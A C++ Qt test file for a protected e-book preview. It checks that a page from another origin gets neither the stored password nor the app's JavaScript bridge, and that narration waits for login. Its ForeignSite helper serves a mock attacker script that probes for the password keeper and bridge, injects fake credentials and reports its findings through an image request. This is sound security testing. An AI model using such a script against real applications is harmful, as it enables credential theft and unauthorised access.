#include "MainWindowSteps.h"
#include "PdfFixtures.h"
#include "TestFiles.h"
#include "TestSupport.h"
#include "furnishings/OtherIconItem.h"
#include "output/narration/GenerateAssistant.h"
#include "project/BookDocument.h"
#include "shell/BookSession.h"
#include "templates/FlashTemplate.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTcpServer>
#include <QTcpSocket>
#include <QtTest>

using namespace TestFiles;

namespace {

constexpr int kLong = 120000;
const QString kPassword = QStringLiteral("Sesame 7 öffne");

// A web site of another origin (its own port on 127.0.0.1): "/foreign.html" is a page
// that reports, as the address of a picture it asks for ("/report?<what it saw>"),
// whether it found the preview's answer keeper, the program's bridge or the channel
// under it, and tries to hand the program an answer of its own.
class ForeignSite : public QObject
{
public:
    ForeignSite()
    {
        m_server.listen(QHostAddress::LocalHost);
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection())
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] { answer(socket); });
        });
    }

    QUrl page() const { return QUrl(QStringLiteral("http://127.0.0.1:%1/foreign.html").arg(m_server.serverPort())); }
    QStringList requests;
    // What the page saw; empty before it reported.
    QJsonObject report() const
    {
        const QStringList reports = requests.filter(QRegularExpression("^/report\\?"));
        return reports.isEmpty() ? QJsonObject()
                                 : QJsonDocument::fromJson(QUrl::fromPercentEncoding(reports.last().mid(8).toUtf8()).toUtf8()).object();
    }

private:
    void answer(QTcpSocket *socket)
    {
        requests << QString::fromLatin1(socket->readLine().split(' ').value(1));
        const QByteArray body = requests.last() != QLatin1String("/foreign.html") ? QByteArray() : R"(<!DOCTYPE html><script>
var keeper = window.quorvelAnswerKeeper;
var seen = {keeper: !!keeper, answer: keeper ? keeper.answer : null, bridge: typeof window.qvCallBack,
  handlers: !!(window.webkit && window.webkit.messageHandlers), channel: typeof qt !== 'undefined' && !!qt.webChannelTransport};
try { window.qvCallBack('connector', {type: 'securityAnswer', user: 'mallory', password: 'taken'}); } catch (e) {}
try { window.qvCallBack('connector', {type: 'foreign'}); } catch (e) {}
try { keeper.remember('mallory', 'taken'); } catch (e) {}
new Image().src = '/report?' + encodeURIComponent(JSON.stringify(seen));
</script>)";
        socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: "
                      + QByteArray::number(body.size()) + "\r\n\r\n" + body);
        socket->disconnectFromHost();
        connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
    }

    QTcpServer m_server;
};

void logIn(PreviewPane *pane)
{
    evaluate(pane, QString("document.querySelector('.qv-secure-password').value = '%1';"
                           " document.querySelector('.qv-secure-open').click()").arg(kPassword));
}

} // namespace

// The main window's preview of a protected book: the password given once is kept for
// the book's own pages only, and what the book shows or plays of a protected page comes
// only after it.
class ProtectedPreviewTest : public QObject
{
    Q_OBJECT
private slots:
    void aPageOfAnotherSiteGetsNeitherTheAnswerNorTheBridge()
    {
        QTemporaryDir dir;
        const QString pdf = dir.filePath("Ledger.pdf");
        QVERIFY(PdfFixtures::writeNumberedPdf(pdf, 4));
        ForeignSite site;
        UiTestDriver driver;
        QuorvelAppDelegate app;
        QVERIFY(startWithImportedPdf(app, driver, pdf));

        // A toolbar icon of the book's own that opens the other site's page in the
        // same window ("_self").
        QImage picture(16, 16, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QVERIFY(picture.save(dir.filePath("icon.png")));
        OtherIconItem icon;
        icon.setCaption("Elsewhere");
        icon.setFile(dir.filePath("icon.png"));
        icon.setType(OtherIconItem::OpenLink);
        icon.setContent(site.page().toString());
        icon.setTarget("_self");
        const QString icons = OtherIconItem::saveIconList({icon}, dir.filePath("icons.xml"));
        QVERIFY(!icons.isEmpty());
        FlashTemplateModel *model = app.mainWindow()->designSettings()->model();
        QVERIFY(model->setData(model->indexForKey("otherIconsConfig", FlashTemplateModel::ValueColumn), icons));
        protectWithPassword(app, driver, kPassword);
        PreviewPane *pane = app.mainWindow()->previewPane();
        QVERIFY(QTest::qWaitFor([&] { return pane->webView() && previewAsks(pane) && evaluate(pane, "!!document.querySelector('.qv-extra-icon')").toBool(); }, kLong));
        logIn(pane);
        QVERIFY(QTest::qWaitFor([&] { return previewShowsPage(pane) && pane->hasAnswer(); }, kLong));
        const QUrl book = pane->currentUrl();

        // The icon's page opens in the user's browser; the preview stays on the book.
        evaluate(pane, "document.querySelector('.qv-extra-icon').click()");
        // Addresses handed to the user's browser.
        const auto opened = [&driver] {
            QStringList urls;
            for (const UiTestDriver::WorkspaceRequest &request : driver.workspaceRequests())
                if (request.kind == "url")
                    urls << request.target;
            return urls;
        };
        QVERIFY(QTest::qWaitFor([&] { return opened().contains(site.page().toString()); }, kLong));
        QVERIFY(previewShowsPage(pane));
        QCOMPARE(pane->currentUrl().adjusted(QUrl::RemoveFragment), book.adjusted(QUrl::RemoveFragment));
        // A new window of the book goes there too.
        evaluate(pane, QString("window.open('%1', '_blank')").arg(site.page().toString()));
        QVERIFY(QTest::qWaitFor([&] { return opened().count(site.page().toString()) == 2; }, kLong));
        QVERIFY(previewShowsPage(pane));
        QVERIFY(site.requests.isEmpty());

        // In a frame of the book, the page finds no keeper, no bridge, no answer; what
        // it sends reaches nobody.
        QSignalSpy connector(pane, &PreviewPane::bookConnector);
        evaluate(pane, QString("var f = document.createElement('iframe'); f.src = '%1'; document.body.appendChild(f);")
                           .arg(site.page().toString()));
        QVERIFY(QTest::qWaitFor([&] { return !site.report().isEmpty(); }, kLong));
        const QJsonObject seen = site.report();
        QCOMPARE(seen.value("keeper").toBool(), false);
        QVERIFY(seen.value("answer").isNull());
        QCOMPARE(seen.value("bridge").toString(), QString("undefined"));
        QCOMPARE(seen.value("handlers").toBool(), false);
        QCOMPARE(seen.value("channel").toBool(), false);
        QVERIFY(pane->hasAnswer());
        QCOMPARE(connector.count(), 0);
        // The kept answer is still the author's: a rebuild opens the book with it.
        QVERIFY(model->setData(model->indexForKey("backgroundColor", FlashTemplateModel::ValueColumn), "0x336699"));
        QVERIFY(QTest::qWaitFor([&] { return evaluate(pane, "window.bookConfig && bookConfig.backgroundColor").toString() == "#336699" && previewShowsPage(pane); }, kLong));

        // Closing the book drops the answer, and the page that held it.
        driver.answerAlert("Don't Save");
        QVERIFY(app.closeBook());
        QVERIFY(!pane->hasAnswer());
        QVERIFY(QTest::qWaitFor([&] { return evaluate(pane, "location.href").toString() == "about:blank"; }, kLong));
        QCOMPARE(evaluate(pane, "typeof window.quorvelAnswerKeeper").toString(), QString("undefined"));
        QVERIFY(driver.failures().isEmpty());
        app.applicationWillTerminate();
    }

    void narrationStartsOnlyAfterLogin()
    {
        QTemporaryDir dir;
        const QString pdf = dir.filePath("Almanac.pdf");
        const QString recording = TestSupport::sourceDataPath("narration/tone.mp3");
        QVERIFY(!recording.isEmpty());
        QVERIFY(PdfFixtures::writeNumberedPdf(pdf, 4));
        UiTestDriver driver;
        QuorvelAppDelegate app;
        QVERIFY(startWithImportedPdf(app, driver, pdf));

        // Every spread narrated by a recording, played on its own.
        BookDocument &document = app.session()->document();
        auto assistant = std::make_shared<GenerateAssistant>();
        assistant->setWorkFolder(document.createTemporaryWorkspace());
        assistant->setTotalPage(app.session()->pageCount());
        assistant->fitResourceListToPages();
        for (AssistantResourceItem &spread : assistant->resourceList()) {
            spread.setType(AssistantResourceItem::ImportedMp3);
            spread.setImportmp3File(recording);
        }
        assistant->speechOptions().setPlayMode(AssistantSpeechItem::Automatic);
        document.parts().setAssistant(assistant);
        app.setPreviewChangeFlag(PreviewChange::Assistant);
        protectWithPassword(app, driver, kPassword);

        // Asked for the password, the player has the cover's spread open and plays
        // nothing, nor waits to turn to another.
        PreviewPane *pane = app.mainWindow()->previewPane();
        const auto player = [pane](const QString &what) { return evaluate(pane, "(function (p) { return p ? " + what + " : null; })(window.Quorvel && Quorvel.narration)"); };
        QVERIFY(QTest::qWaitFor([&] { return pane->webView() && previewAsks(pane) && player("p.spread").toInt() == 0; }, kLong));
        QCOMPARE(player("p.requests.length").toInt(), 0);
        QCOMPARE(player("!!p.timer || !!p.pending || !!p.playing || !p.audio.paused || !!p.audio.getAttribute('src')").toBool(), false);

        logIn(pane);
        QVERIFY(QTest::qWaitFor([&] { return player("p.requests.length").toInt() > 0; }, kLong));
        QCOMPARE(player("p.requests[0].spread").toInt(), 0);
        QVERIFY(player("p.requests[0].sound").toString().contains("files/secure/sound/0.js"));
        QVERIFY(previewShowsPage(pane));
        QVERIFY(driver.failures().isEmpty());
        app.applicationWillTerminate();
    }
};

QV_TEST(ProtectedPreviewTest)
#include "tst_protectedpreview.moc"
